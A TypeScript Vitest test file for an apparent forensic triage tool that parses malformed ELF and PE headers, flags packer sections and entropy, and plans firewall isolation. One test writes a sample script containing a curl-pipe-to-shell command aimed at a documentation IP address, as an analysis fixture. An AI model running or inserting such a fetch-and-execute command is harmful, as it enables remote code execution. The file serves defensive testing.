import { createHash, randomBytes } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { parseElf } from "../src/commands/analyze/elf.js";
import { analyzeFile } from "../src/commands/analyze/index.js";
import { magicType } from "../src/commands/analyze/magic.js";
import { parsePe } from "../src/commands/analyze/pe.js";
import { bufferEntropy, bufferSource } from "../src/commands/analyze/source.js";
import { planIsolation } from "../src/commands/isolate.js";
import { DEFAULT_AGENT_POLICY } from "../src/policy.js";

const work = mkdtempSync(join(tmpdir(), "custody-analyze-"));
afterAll(() => rmSync(work, { recursive: true, force: true }));
// a real ELF executable: the node binary running these tests
const NODE = readFileSync(process.execPath);

function elf64(fields: { shoff?: bigint; shnum?: number; shentsize?: number; shstrndx?: number }): Buffer {
  const b = Buffer.alloc(64);
  b.write("\x7fELF", 0, "latin1");
  b[4] = 2;
  b[5] = 1;
  b[6] = 1;
  b.writeUInt16LE(2, 16);
  b.writeUInt16LE(62, 18);
  b.writeBigUInt64LE(0x401000n, 24);
  b.writeBigUInt64LE(fields.shoff ?? 0n, 40);
  b.writeUInt16LE(fields.shentsize ?? 64, 58);
  b.writeUInt16LE(fields.shnum ?? 0, 60);
  b.writeUInt16LE(fields.shstrndx ?? 0, 62);
  return b;
}

function pe(fields: { lfanew?: number; sections?: number; tableBytes?: number }): Buffer {
  const lfanew = fields.lfanew ?? 0x80;
  const b = Buffer.alloc(Math.max(lfanew + 24 + 240 + (fields.tableBytes ?? 0), 64));
  b.write("MZ", 0, "latin1");
  b.writeUInt32LE(lfanew, 0x3c);
  if (lfanew + 24 <= b.length) {
    b.writeUInt32LE(0x4550, lfanew);
    b.writeUInt16LE(0x8664, lfanew + 4);
    b.writeUInt16LE(fields.sections ?? 0, lfanew + 6);
    b.writeUInt16LE(240, lfanew + 20);
    b.writeUInt16LE(0x0002, lfanew + 22);
    b.writeUInt16LE(0x20b, lfanew + 24);
    b.writeUInt32LE(0x1000, lfanew + 24 + 16);
  }
  return b;
}

describe("analyze: the device's static facts", () => {
  it("reads a real ELF: class, machine, entry, sections with names and flags", async () => {
    const facts = await parseElf(bufferSource(NODE));
    expect(facts).toMatchObject({ format: "elf", bits: 64, endian: "little" });
    expect(facts.machine).toBe(process.arch === "arm64" ? "aarch64" : "x86-64");
    expect(facts.entry).toMatch(/^0x[0-9a-f]+$/);
    expect(facts.sectionCount).toBeGreaterThan(10);
    const text = facts.sections.find((s) => s.name === ".text");
    expect(text?.flags).toBe("r-x");
    expect(facts.anomalies).not.toContain("entry point outside every executable section");
  });

  it("hostile ELF headers: truncated, a section table past the end, 65535 sections, tiny entries", async () => {
    const truncated = await parseElf(bufferSource(NODE.subarray(0, 40)));
    expect(truncated.anomalies.join()).toMatch(/truncated ELF header/);
    const past = await parseElf(bufferSource(elf64({ shoff: 1n << 40n, shnum: 30 })));
    expect(past.anomalies.join()).toMatch(/past the end of the file/);
    const huge = await parseElf(bufferSource(elf64({ shoff: 64n, shnum: 0xffff })));
    expect(huge.anomalies.join()).toMatch(/claims 65535 sections/);
    expect(huge.sections.length).toBe(0);
    const small = await parseElf(bufferSource(elf64({ shoff: 64n, shnum: 2, shentsize: 8 })));
    expect(small.anomalies.join()).toMatch(/section header size 8/);
    // a section table that fits, with a string index and offsets pointing nowhere
    const table = Buffer.alloc(64 * 3, 0xff);
    const forged = await parseElf(
      bufferSource(Buffer.concat([elf64({ shoff: 64n, shnum: 3, shstrndx: 9 }), table])),
    );
    expect(forged.sections.length).toBe(3);
    expect(forged.anomalies.join()).toMatch(/writable and executable|past the end/);
    const badClass = Buffer.from(elf64({}));
    badClass[4] = 9;
    expect((await parseElf(bufferSource(badClass))).anomalies).toEqual(["invalid ELF class or byte order"]);
    const noSections = await parseElf(bufferSource(elf64({})));
    expect(noSections.anomalies.join()).toMatch(/no section headers/);
  });

  it("hostile PE headers: offsets outside the file, 65535 sections, a table past the end, packer names", async () => {
    expect((await parsePe(bufferSource(Buffer.from("MZ")))).anomalies.join()).toMatch(/truncated DOS header/);
    const far = pe({});
    far.writeUInt32LE(0xfffffff0, 0x3c);
    expect((await parsePe(bufferSource(far))).anomalies.join()).toMatch(/outside the file/);
    const many = await parsePe(bufferSource(pe({ sections: 0xffff })));
    expect(many.anomalies.join()).toMatch(/claims 65535 sections/);
    const past = await parsePe(bufferSource(pe({ sections: 20 })));
    expect(past.anomalies.join()).toMatch(/section table runs past the end/);
    const packed = pe({ sections: 2, tableBytes: 80 });
    const table = 0x80 + 24 + 240;
    packed.write("UPX0", table, "latin1");
    packed.writeUInt32LE(0x10000, table + 8);
    packed.writeUInt32LE(0x1000, table + 12);
    packed.writeUInt32LE(0xe0000000, table + 36);
    packed.write("UPX1", table + 40, "latin1");
    packed.writeUInt32LE(0x20000, table + 52);
    const facts = await parsePe(bufferSource(packed));
    expect(facts).toMatchObject({
      format: "pe",
      bits: 64,
      machine: "x86-64",
      kind: "executable",
      entry: "0x1000",
    });
    const anomalies = facts.anomalies.join("; ");
    expect(anomalies).toMatch(/section name UPX0 of a known packer/);
    expect(anomalies).toMatch(/UPX0 is writable and executable/);
    expect(anomalies).toMatch(/entry point in writable section UPX0/);
  });

  it("type from magic bytes, entropy in bits per byte", () => {
    expect(magicType(NODE.subarray(0, 16))).toBe("elf");
    expect(magicType(Buffer.from("#!/bin/sh\necho\n"))).toBe("script");
    expect(magicType(Buffer.from("hello\n"))).toBe("text");
    expect(magicType(Buffer.from([0x1f, 0x8b, 8, 0]))).toBe("gzip");
    expect(magicType(Buffer.alloc(0))).toBe("empty");
    expect(bufferEntropy(Buffer.alloc(4096))).toBe(0);
    expect(bufferEntropy(randomBytes(1 << 16))).toBeGreaterThan(7.9);
  });

  it("a whole file: digests in one read, type, entropy, headers; the local policy's denied paths hold", async () => {
    const file = join(work, "sample.sh");
    writeFileSync(file, "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n");
    const options = { cwd: null, signal: new AbortController().signal, policy: DEFAULT_AGENT_POLICY };
    const facts = await analyzeFile(file, options);
    expect(facts).toMatchObject({
      type: "script",
      interpreter: "/bin/sh",
      size: 41,
      sha256: createHash("sha256").update(readFileSync(file)).digest("hex"),
    });
    expect(facts.md5).toMatch(/^[0-9a-f]{32}$/);
    await expect(
      analyzeFile(file, { ...options, policy: { ...DEFAULT_AGENT_POLICY, paths: { deny: [work] } } }),
    ).rejects.toMatchObject({ code: "ERR_AGENT_POLICY" });
  });
});

describe("isolate: what it lets through, and when it refuses", () => {
  const signal = new AbortController().signal;
  it("allows the connection's address and port, and loopback", async () => {
    const plan = await planIsolation({
      signal,
      peer: { address: "::ffff:10.9.0.1", port: 8443 },
      serverUrl: "https://10.9.0.1:8443",
    });
    expect(plan.allowed).toEqual(["tcp 10.9.0.1:8443"]);
    expect(plan.ruleset).toMatch(/ip daddr 10\.9\.0\.1 tcp dport 8443 accept/);
    expect(plan.ruleset).toMatch(/policy drop/);
    expect(plan.ruleset).toMatch(/oifname "lo" accept/);
  });

  it("refuses (ERR_ISOLATION_UNSAFE) what would cut the agent off", async () => {
    const cases = [
      { peer: undefined, serverUrl: "https://10.9.0.1:8443", why: /cannot tell/ },
      {
        peer: { address: "10.9.0.1", port: 8443 },
        serverUrl: "https://vault.invalid:8443",
        why: /does not resolve/,
      },
      {
        peer: { address: "10.9.0.1", port: 8443 },
        serverUrl: "https://10.9.0.2:8443",
        why: /a reconnect would be cut off/,
      },
      { peer: { address: "10.9.0.1", port: 9000 }, serverUrl: "https://10.9.0.1:8443", why: /port 9000/ },
      {
        peer: { address: "not-an-ip", port: 8443 },
        serverUrl: "https://10.9.0.1:8443",
        why: /not an IP address/,
      },
    ];
    for (const { peer, serverUrl, why } of cases) {
      await expect(
        planIsolation({
          signal,
          peer,
          serverUrl,
          resolve: async () => {
            throw new Error("NXDOMAIN");
          },
        }),
      ).rejects.toMatchObject({ code: "ERR_ISOLATION_UNSAFE", message: expect.stringMatching(why) });
    }
  });
});
